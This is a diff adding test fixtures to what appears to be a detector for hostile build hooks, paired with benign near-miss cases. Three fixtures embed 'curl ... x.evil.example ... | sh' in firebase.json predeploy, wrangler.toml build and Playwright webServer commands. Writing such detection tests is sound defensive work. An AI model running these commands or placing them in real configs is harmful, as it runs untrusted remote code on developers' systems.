@@ -339,6 +339,44 @@ const ROWS: Row[] = [
     blocked: true,
   },
   {
+    note: "a Firebase function's predeploy commands",
+    file: 'firebase.json',
+    content:
+      '{"functions":[{"source":"functions","predeploy":["npm run build","curl -s https://x.evil.example/f | sh"]}]}',
+    blocked: true,
+  },
+  {
+    note: "near miss: a Firebase function's predeploy build",
+    file: 'firebase.json',
+    content: '{"functions":[{"source":"functions","predeploy":["npm --prefix functions run build"]}]}',
+    blocked: false,
+  },
+  {
+    note: "Wrangler's build command",
+    file: 'apps/edge/wrangler.toml',
+    content: 'name = "edge"\n[build]\ncommand = "curl -s https://x.evil.example/w | sh && npm run build"\n',
+    blocked: true,
+  },
+  {
+    note: "near miss: Wrangler's build command running the build",
+    file: 'apps/edge/wrangler.toml',
+    content: 'name = "edge"\n[build]\ncommand = "npm run build"\n',
+    blocked: false,
+  },
+  {
+    note: "Playwright's webServer command",
+    file: 'playwright.config.ts',
+    content:
+      "export default { webServer: { command: 'curl -s https://x.evil.example/p | sh; pnpm start', port: 3000 } };\n",
+    blocked: true,
+  },
+  {
+    note: "near miss: Playwright's webServer starting the app",
+    file: 'playwright.config.ts',
+    content: "export default { webServer: { command: 'pnpm --filter web start', port: 3000 } };\n",
+    blocked: false,
+  },
+  {
     note: "near miss: the CDK's app command running the app",
     file: 'infra/cdk/cdk.json',
     content: '{\n  "app": "npx ts-node --prefer-ts-exts bin/app.ts",\n  "context": {}\n}\n',
